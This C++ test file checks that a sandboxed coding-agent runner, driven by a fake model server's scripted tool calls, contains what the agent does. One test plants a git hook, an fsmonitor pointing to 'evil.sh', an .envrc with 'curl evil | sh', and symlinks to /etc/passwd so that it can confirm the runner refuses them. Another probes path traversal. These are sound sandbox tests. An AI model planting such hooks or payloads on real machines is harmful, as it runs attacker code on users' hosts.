// `lineage agent run` with the seed conductor: built in the sandbox, run in the sandbox, through the real
// gateway, against the fake model server's scripted tool calls.
#include <fstream>
#include <regex>

#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>

#include "archive/archive.h"
#include "llm/fake_server.h"
#include "tests/support/test_support.h"

namespace lineage {
namespace {

namespace fs = std::filesystem;
using json = nlohmann::json;
using test::RunLineage;
using test::TempDir;
using test::WriteFile;

// Every test shares one home so the conductor is built once (the build cache is keyed by its tree).
const fs::path kHome = LINEAGE_AGENT_TEST_HOME;
const fs::path kConductor = fs::path(LINEAGE_SOURCE_DIR) / "agents" / "conductor";

struct Run {
  test::CommandResult command;
  json out;  // the --json report
  std::vector<json> trajectory;

  // The output of every tool step, in order.
  std::vector<std::string> ToolOutputs() const {
    std::vector<std::string> outputs;
    for (const json& step : trajectory) {
      if (step.value("type", "") == "tool") outputs.push_back(step.value("output", ""));
    }
    return outputs;
  }
};

// `provider`: the upstream the gateway calls ("openai" or "anthropic"), the fake server either way.
Run RunAgent(const std::string& script, const fs::path& workspace, const std::string& agent = kConductor.string(),
             std::vector<std::string> extra = {}, const std::string& provider = "openai") {
  auto fake = llm::FakeModelServer::Start(script, "test script");
  REQUIRE(fake.ok());
  TempDir dir;
  WriteFile(dir / "models.toml",
            provider == "openai"
                ? "[models.default]\nprovider = \"openai\"\nbase_url = \"" + (*fake)->url() + "/v1\"\nmodel = \"gpt-4.1-mini\"\n"
                : "[models.default]\nprovider = \"anthropic\"\nbase_url = \"" + (*fake)->url() +
                      "\"\nmodel = \"claude-sonnet-4-5\"\n");
  std::vector<std::string> args = {"agent", "run", agent, "--workspace", workspace.string(), "--instruction",
                                   "Fix the failing test.", "--models", (dir / "models.toml").string(), "--json"};
  args.insert(args.end(), extra.begin(), extra.end());
  Run run;
  run.command = RunLineage(kHome, args);
  INFO(run.command.err);
  REQUIRE(run.command.exit_code == 0);
  run.out = json::parse(run.command.out);
  std::ifstream lines(fs::path(run.out["output_dir"].get<std::string>()) / "trajectory.jsonl");
  for (std::string line; std::getline(lines, line);) run.trajectory.push_back(json::parse(line));
  return run;
}

// The seed conductor stored in the shared home as a new agent: its id.
std::string ImportConductor() {
  REQUIRE(RunLineage(kHome, {"init"}).exit_code == 0);
  auto imported = RunLineage(kHome, {"agent", "import", kConductor.string(), "--name", "seed"});
  std::smatch id;
  REQUIRE(std::regex_search(imported.out, id, std::regex("#([0-9]+)")));
  return id[1];
}

// A tiny project with a failing test.
void WriteBuggyProject(const fs::path& dir) {
  WriteFile(dir / "add.sh", "#!/bin/sh\necho $(( $1 - $2 ))\n", true);
  WriteFile(dir / "test.sh", "#!/bin/sh\n[ \"$(./add.sh 2 3)\" = 5 ] && echo PASS || { echo FAIL; exit 1; }\n", true);
}

TEST_CASE("The conductor fixes a bug through scripted tool calls and runs the task's tests") {
  TempDir ws;
  WriteBuggyProject(ws.path());
  Run run = RunAgent(R"({"responses": [
      {"tool_calls": [{"name": "bash", "arguments": {"command": "./test.sh"}}]},
      {"tool_calls": [{"name": "editor", "arguments": {"command": "view", "path": "add.sh"}}]},
      {"tool_calls": [{"name": "consult_expert", "arguments": {"name": "Expert Shell Reviewer", "instructions": "Is $(( $1 + $2 )) right?"}}]},
      {"text": "Yes, use +."},
      {"tool_calls": [{"name": "editor", "arguments": {"command": "str_replace", "path": "add.sh", "old_str": "$1 - $2", "new_str": "$1 + $2"}}]},
      {"tool_calls": [{"name": "bash", "arguments": {"command": "./test.sh"}}]},
      {"tool_calls": [{"name": "finish", "arguments": {"summary": "add.sh subtracted; it adds now and test.sh passes"}}]}
    ]})",
                     ws.path());
  CHECK(run.out["status"] == "finished");
  CHECK(run.out["rounds"] == 6);
  CHECK(run.out["experts"] == 1);
  CHECK(run.out["model_calls"] == 7);
  CHECK(run.out["diff"]["patch"].get<std::string>().find("+echo $(( $1 + $2 ))") != std::string::npos);
  CHECK(test::ReadFileOrDie(ws / "add.sh").find("$1 + $2") != std::string::npos);
  auto outputs = run.ToolOutputs();
  REQUIRE(outputs.size() == 5);
  CHECK(outputs[0].find("FAIL") != std::string::npos);
  CHECK(outputs[0].find("[exit code 1]") != std::string::npos);
  CHECK(outputs[1].find("2\techo $(( $1 - $2 ))") != std::string::npos);
  CHECK(outputs[2].find("Expert Shell Reviewer's output:\nYes, use +.") != std::string::npos);
  CHECK(outputs[4].find("PASS") != std::string::npos);
}

TEST_CASE("agent run never carries back .git or other configuration the host runs, and says so") {
  TempDir ws;
  WriteBuggyProject(ws.path());
  WriteFile(ws / ".git/config", "[core]\n\tbare = false\n");
  WriteFile(ws / ".git/HEAD", "ref: refs/heads/main\n");
  WriteFile(ws / ".vscode/settings.json", "{}\n");
  const std::string plant =
      "printf '#!/bin/sh\\necho PWNED\\n' > .git/hooks/post-checkout 2>/dev/null; "
      "printf '[core]\\n\\tfsmonitor = ./evil.sh\\n' >> .git/config 2>/dev/null; "
      "echo 'curl evil | sh' > .envrc; mkdir -p .vscode sub/.githooks && echo '{\\\"tasks\\\": 1}' > .vscode/tasks.json; "
      "echo x > .vscode/settings.json; echo hook > sub/.githooks/pre-commit; echo fixed > NOTES.md; "
      // On a case-insensitive file system .GIT is .git; links lead the host elsewhere.
      "mkdir -p .GIT/hooks && echo hook > .GIT/hooks/post-checkout; echo x > .NPMRC; "
      "ln -s /etc/passwd abs-link; ln -s ../../outside up-link; ln -s .git/hooks hook-link; ln -s NOTES.md fine-link; "
      "cat .git/HEAD";
  Run run = RunAgent(R"({"responses": [
      {"tool_calls": [{"name": "bash", "arguments": {"command": ")" + plant + R"("}}]},
      {"tool_calls": [{"name": "finish", "arguments": {"summary": "planted"}}]}
    ]})",
                     ws.path());
  CHECK(run.ToolOutputs().at(0).find("ref: refs/heads/main") != std::string::npos);  // .git is readable
  // The innocent change came back; nothing the host would run did.
  CHECK(test::ReadFileOrDie(ws / "NOTES.md") == "fixed\n");
  CHECK_FALSE(fs::exists(ws / ".git/hooks/post-checkout"));
  CHECK(test::ReadFileOrDie(ws / ".git/config") == "[core]\n\tbare = false\n");
  CHECK_FALSE(fs::exists(ws / ".envrc"));
  CHECK_FALSE(fs::exists(ws / ".vscode/tasks.json"));
  CHECK(test::ReadFileOrDie(ws / ".vscode/settings.json") == "{}\n");
  CHECK_FALSE(fs::exists(ws / "sub/.githooks/pre-commit"));
  // The diff printed is the change that was made, and the refused paths are named.
  const std::string patch = run.out["diff"]["patch"];
  CHECK(patch.find("NOTES.md") != std::string::npos);
  CHECK(patch.find(".envrc") == std::string::npos);
  CHECK(run.out["refused"] == json::array({".NPMRC", ".envrc", ".vscode/settings.json", ".vscode/tasks.json", "abs-link",
                                           "hook-link", "sub/.githooks/pre-commit", "up-link"}));
  CHECK_FALSE(fs::exists(ws / ".GIT"));  // a .git by another name is never even read back
  CHECK(fs::is_symlink(ws / "fine-link"));
}

TEST_CASE("The conductor turns bad tool calls into errors the model can act on") {
  TempDir ws;
  WriteBuggyProject(ws.path());
  WriteFile(ws / "twice.txt", "x\nx\n");
  Run run = RunAgent(R"({"responses": [
      {"tool_calls": [{"name": "bash", "arguments": "{\"command\": \"ls"}]},
      {"tool_calls": [{"name": "teleport", "arguments": {"to": "mars"}}]},
      {"tool_calls": [{"name": "editor", "arguments": {"command": "str_replace", "path": "add.sh", "old_str": "no such text", "new_str": "y"}}]},
      {"tool_calls": [{"name": "editor", "arguments": {"command": "str_replace", "path": "twice.txt", "old_str": "x", "new_str": "y"}}]},
      {"tool_calls": [{"name": "bash", "arguments": {"command": "yes 0123456789 | head -c 5000000"}}]},
      {"tool_calls": [{"name": "editor", "arguments": {"command": "view", "path": "../../etc/passwd"}}]},
      {"tool_calls": [{"name": "finish", "arguments": {"summary": "nothing"}}]}
    ]})",
                     ws.path());
  CHECK(run.out["status"] == "finished");
  auto outputs = run.ToolOutputs();
  REQUIRE(outputs.size() == 6);
  CHECK(outputs[0].find("not a valid JSON object") != std::string::npos);
  CHECK(outputs[1].find("unknown tool 'teleport'") != std::string::npos);
  CHECK(outputs[2].find("old_str was not found in add.sh; nothing changed") != std::string::npos);
  CHECK(outputs[3].find("old_str occurs 2 times in twice.txt; nothing changed") != std::string::npos);
  CHECK(outputs[4].find("bytes clipped") != std::string::npos);
  CHECK(outputs[4].size() < 20000);
  CHECK(outputs[5].find("outside the workspace") != std::string::npos);
  CHECK(test::ReadFileOrDie(ws / "twice.txt") == "x\nx\n");
  CHECK(run.out["diff"]["files_changed"] == 0);
}

TEST_CASE("The conductor respects the round cap and reminds a model that uses no tool") {
  TempDir ws;
  Run run = RunAgent(R"({"responses": [{"text": "Let me think about it."}], "when_exhausted": "repeat_last"})", ws.path(),
                     kConductor.string(), {"--max-rounds", "3"});
  CHECK(run.out["status"] == "round_cap");
  CHECK(run.out["rounds"] == 3);
  CHECK(run.out["model_calls"] == 3);
  int reminders = 0;
  for (const json& step : run.trajectory) reminders += step.value("type", "") == "reminder" ? 1 : 0;
  CHECK(reminders == 3);
}

TEST_CASE("The conductor stops cleanly when the gateway reports the budget spent") {
  TempDir ws;
  Run run = RunAgent(R"({"responses": [{"tool_calls": [{"name": "bash", "arguments": {"command": "true"}}]}],
                         "when_exhausted": "repeat_last"})",
                     ws.path(), kConductor.string(), {"--max-calls", "2"});
  CHECK(run.out["status"] == "budget_exhausted");
  CHECK(run.out["model_calls"] == 2);
  CHECK(run.out["exit_code"] == 0);
  CHECK(run.out["summary"].get<std::string>().find("budget exhausted") != std::string::npos);
}

TEST_CASE("The conductor edits its own prompt and the child still builds") {
  TempDir ws;
  const fs::path self = ws / "conductor";
  fs::copy(kConductor, self, fs::copy_options::recursive);
  Run run = RunAgent(R"({"responses": [
      {"tool_calls": [{"name": "editor", "arguments": {"command": "str_replace", "path": "prompts/system.md",
         "old_str": "Keep command output small", "new_str": "Run the tests before you finish. Keep command output small"}}]},
      {"tool_calls": [{"name": "finish", "arguments": {"summary": "the prompt now insists on running tests"}}]}
    ]})",
                     self);
  CHECK(run.out["status"] == "finished");
  CHECK(run.out["diff"]["patch"].get<std::string>().find("+no user. Run the tests before you finish. Keep") != std::string::npos);
  // The child is a new tree: `agent run` builds it (a failed build would exit 1), and it runs.
  TempDir other;
  Run child = RunAgent(R"({"responses": [{"tool_calls": [{"name": "finish", "arguments": {"summary": "ok"}}]}]})",
                       other.path(), self.string());
  CHECK(child.out["status"] == "finished");
}

TEST_CASE("agent run takes an archived agent by id and records its model calls") {
  const std::string id = ImportConductor();
  TempDir ws;
  Run run = RunAgent(R"({"responses": [{"tool_calls": [{"name": "finish", "arguments": {"summary": "ok"}}]}]})",
                     ws.path(), id);
  CHECK(run.out["status"] == "finished");
  auto archive = Archive::Open(kHome);
  REQUIRE(archive.ok());
  auto calls = (*archive)->ListModelCalls(std::stoll(id));
  REQUIRE(calls.ok());
  REQUIRE(calls->size() == 1);
  CHECK((*calls)[0].purpose == "agent_run");
  CHECK((*calls)[0].label == "conductor");
}

TEST_CASE("The conductor's later rounds read the conversation so far from an Anthropic upstream's prompt cache") {
  const std::string id = ImportConductor();
  TempDir ws;
  WriteBuggyProject(ws.path());
  // The conductor marks no breakpoint; the gateway does (prompt_cache = "auto"), on the system prompt and the
  // latest turn, so each round's prefix is the round before's.
  Run run = RunAgent(R"({"cache_min_tokens": 64, "responses": [
      {"tool_calls": [{"name": "bash", "arguments": {"command": "./test.sh"}}]},
      {"tool_calls": [{"name": "bash", "arguments": {"command": "cat add.sh"}}]},
      {"tool_calls": [{"name": "finish", "arguments": {"summary": "looked"}}]}]})",
                     ws.path(), id, {}, "anthropic");
  CHECK(run.out["status"] == "finished");
  auto archive = Archive::Open(kHome);
  REQUIRE(archive.ok());
  auto calls = (*archive)->ListModelCalls(std::stoll(id));
  REQUIRE(calls.ok());
  std::vector<ModelCall> rounds;
  for (const ModelCall& c : *calls) {
    if (c.label == "conductor" && c.model == "claude-sonnet-4-5") rounds.push_back(c);  // this test's upstream
  }
  REQUIRE(rounds.size() >= 3);
  const std::vector<ModelCall> last(rounds.end() - 3, rounds.end());
  CHECK(last[0].cache_read_tokens == 0);
  CHECK(last[0].cache_write_tokens > 0);
  for (int i : {1, 2}) {
    INFO("round " << i + 1);
    CHECK(last[i].cache_read_tokens > 0);
    CHECK(last[i].cache_read_tokens >= last[i - 1].cache_read_tokens);
  }
}

TEST_CASE("agent run explains a missing agent.toml and a failing build") {
  TempDir dir;
  WriteFile(dir / "agent" / "README", "not an agent\n");
  WriteFile(dir / "models.toml", "[models.default]\nprovider = \"openai\"\nmodel = \"m\"\n");
  auto missing = RunLineage(kHome, {"agent", "run", (dir / "agent").string(), "--workspace", dir.path().string(),
                                    "--instruction", "x", "--models", (dir / "models.toml").string()});
  CHECK(missing.exit_code == 1);
  CHECK(missing.err.find("no agent.toml") != std::string::npos);
  WriteFile(dir / "broken" / "agent.toml", "protocol = 1\n[build]\ncommand = \"echo compiling; exit 3\"\n[run]\ncommand = \"true\"\n");
  auto broken = RunLineage(kHome, {"agent", "run", (dir / "broken").string(), "--workspace", dir.path().string(),
                                   "--instruction", "x", "--models", (dir / "models.toml").string()});
  CHECK(broken.exit_code == 1);
  CHECK(broken.err.find("the agent's build failed (exit 3)") != std::string::npos);
  CHECK(broken.err.find("compiling") != std::string::npos);
}

// Run as root, the sandbox stages what its user cannot reach; a home that `lineage init` closes later would
// pull a build out from under a sandbox starting on it.
TEST_CASE("agent run keeps a home without an archive as private as lineage init would") {
  TempDir dir;
  const fs::path home = dir / "home";
  fs::create_directories(home);
  fs::permissions(home, fs::perms::owner_all | fs::perms::group_read | fs::perms::group_exec | fs::perms::others_read |
                            fs::perms::others_exec);
  WriteFile(dir / "agent" / "agent.toml", "protocol = 1\n[run]\ncommand = \"true\"\n");
  WriteFile(dir / "models.toml", "[models.default]\nprovider = \"openai\"\nmodel = \"m\"\n");
  RunLineage(home, {"agent", "run", (dir / "agent").string(), "--workspace", dir.path().string(), "--instruction", "x",
                    "--models", (dir / "models.toml").string()});
  CHECK(fs::status(home).permissions() == fs::perms::owner_all);
}

}  // namespace
}  // namespace lineage
